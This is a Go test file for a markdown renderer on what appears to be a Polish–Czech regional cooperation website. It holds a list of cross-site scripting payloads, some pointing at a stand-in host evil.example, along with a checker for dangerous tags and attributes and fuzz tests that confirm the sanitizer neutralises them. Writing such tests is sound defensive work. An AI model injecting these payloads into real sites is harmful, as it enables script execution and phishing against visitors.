package markdown_test

import (
	"errors"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/aglo/aglo/internal/markdown"
)

func TestRender(t *testing.T) {
	r := markdown.New()
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"paragraph and emphasis", "Współpraca **Opola** i _Ołomuńca_.", []string{"<p>Współpraca <strong>Opola</strong> i <em>Ołomuńca</em>.</p>"}},
		{"h1 becomes h2", "# Tytuł\n\n## Podtytuł", []string{"<h2", ">Tytuł</h2>", ">Podtytuł</h2>"}},
		{"list", "- jeden\n- dwa", []string{"<ul>", "<li>jeden</li>"}},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |", []string{"<table>", "<td>1</td>"}},
		{"external link", "[Olomouc](https://www.olomouc.eu/)", []string{`href="https://www.olomouc.eu/"`, "noopener", "noreferrer"}},
		{"autolink", "Zobacz https://aglomeracja.opolska.pl/ teraz", []string{`href="https://aglomeracja.opolska.pl/"`, "noopener"}},
		{"relative link", "[kontakt](/pl/kontakt)", []string{`<a href="/pl/kontakt">kontakt</a>`}},
		{"mail and phone", "[napisz](mailto:biuro@example.pl) [zadzwoń](tel:+48774000000)", []string{`href="mailto:biuro@example.pl"`, `href="tel:+48774000000"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := r.Render(tt.in)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("Render(%q) = %q, want it to contain %q", tt.in, got, w)
				}
			}
		})
	}
}

// hostile is what an editor (or someone who took over an editor's account) might type to
// get a script onto the public site.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">klik</a>`,
	`[klik](javascript:alert(1))`,
	`[klik](JaVaScRiPt:alert(1))`,
	`[klik](java&#x09;script:alert(1))`,
	"[klik](\tjavascript:alert(1))",
	`[klik](vbscript:msgbox(1))`,
	`[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![obraz](javascript:alert(1))`,
	`<p style="background:url(javascript:alert(1))">tekst</p>`,
	`<div onclick="alert(1)">kliknij</div>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<svg onload=alert(1)><circle r=1></svg>`,
	`<style>body{display:none}</style>`,
	`<form action="https://evil.example"><input name=p></form>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	"```html\n<script>alert(1)</script>\n```",
	`[a](https://example.org "t\" onmouseover=\"alert(1)")`,
	"<scr<script>ipt>alert(1)</script>",
	`<a href="https://example.org" onmouseover="alert(1)">x</a>`,
	`<details open ontoggle=alert(1)>`,
	"<!-- <script>alert(1)</script> -->",
}

func TestRenderHostile(t *testing.T) {
	r := markdown.New()
	for _, in := range hostile {
		t.Run(in, func(t *testing.T) { assertHarmless(t, in, render(t, r, in)) })
	}
}

// assertHarmless fails when out, parsed as a browser would, has an element or attribute
// that can run script, load another document or restyle the page.
func assertHarmless(t *testing.T, in, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("Render(%q) is not parseable HTML: %v", in, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "style", "iframe", "object", "embed", "form", "input", "meta", "base", "link", "svg", "math", "frame", "frameset":
				t.Errorf("Render(%q) = %q: has <%s>", in, out, n.Data)
			}
			for _, a := range n.Attr {
				k, v := strings.ToLower(a.Key), strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				if strings.HasPrefix(k, "on") || k == "style" || k == "srcdoc" || k == "formaction" {
					t.Errorf("Render(%q) = %q: has attribute %s", in, out, a.Key)
				}
				if (k == "href" || k == "src" || k == "action" || k == "xlink:href") &&
					(strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:")) {
					t.Errorf("Render(%q) = %q: %s=%q", in, out, a.Key, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

// render is r.Render(in) for a text within the limits.
func render(t *testing.T, r *markdown.Renderer, in string) string {
	t.Helper()
	out, err := r.Render(in)
	if err != nil {
		t.Fatalf("Render(%q): %v", in, err)
	}
	return out
}

func FuzzRender(f *testing.F) {
	for _, in := range hostile {
		f.Add(in)
	}
	f.Add("# Historia\n\nW 2016 roku **podpisano** porozumienie.\n\n- [link](https://example.org)\n")
	r := markdown.New()
	f.Add("[Statutární město Olomouc]{lang=cs} i [x]{lang=en} \x02cs\x03")
	f.Add("| a | b |\n|---|---|\n| 1 | 2 |\n")
	f.Fuzz(func(t *testing.T, in string) {
		out, err := r.Render(in)
		var limit *markdown.LimitError
		if err != nil && !errors.As(err, &limit) {
			t.Fatalf("Render(%q): %v", in, err)
		}
		if len(out) > 1<<20 {
			t.Fatalf("Render(%q) wrote %d bytes, past the 1 MiB limit", in, len(out))
		}
		assertHarmless(t, in, out)
	})
}

func BenchmarkRender(b *testing.B) {
	src := strings.Repeat("## Projekt\n\nWspółpraca **Aglomeracji Opolskiej** i [Aglomeracji Ołomunieckiej](https://www.olomouc.eu/) rozpoczęła się w 2016 roku.\n\n- wizyty studyjne\n- staże\n\n", 8)
	r := markdown.New()
	b.ReportAllocs()
	b.SetBytes(int64(len(src)))
	for b.Loop() {
		if _, err := r.Render(src); err != nil {
			b.Fatal(err)
		}
	}
}
